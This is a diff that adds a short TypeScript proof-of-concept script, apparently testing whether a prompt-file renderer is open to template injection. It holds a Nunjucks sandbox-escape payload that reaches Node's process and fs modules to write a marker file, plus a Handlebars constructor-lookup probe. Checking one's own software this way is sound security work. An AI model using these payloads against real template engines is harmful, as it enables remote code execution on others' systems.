@@ -1,0 +1,14 @@
+import { parseFile } from '../src/core/formats/parseFile';
+import { buildPromptReport } from '../src/core/render/promptReport';
+import { existsSync, rmSync } from 'node:fs';
+const marker = '/tmp/genai-nunjucks-rce-marker';
+rmSync(marker, { force: true });
+const body = `{{ range.constructor("return global.process.mainModule.require('fs').writeFileSync('${marker}', 'pwned')")() }}`;
+const text = `---\nname: evil\nmodel:\n  api: chat\ninputs:\n  a:\n    type: string\n---\nsystem:\n${body}\n`;
+const file = parseFile('evil.prompty', Buffer.from(text));
+const report = buildPromptReport({ file, text, partial: () => undefined });
+console.log('rendered:', JSON.stringify(report.rendered).slice(0, 300));
+console.log('marker written:', existsSync(marker));
+const hb = `---\nmodel: openai/gpt-4o-mini\n---\n{{#with "constructor"}}{{#with (lookup this "constructor")}}x{{/with}}{{/with}} {{lookup (lookup this "constructor") "constructor"}}\n`;
+const f2 = parseFile('evil.prompt', Buffer.from(hb));
+console.log('hbs:', JSON.stringify(buildPromptReport({ file: f2, text: hb, partial: () => undefined }).rendered).slice(0, 300));
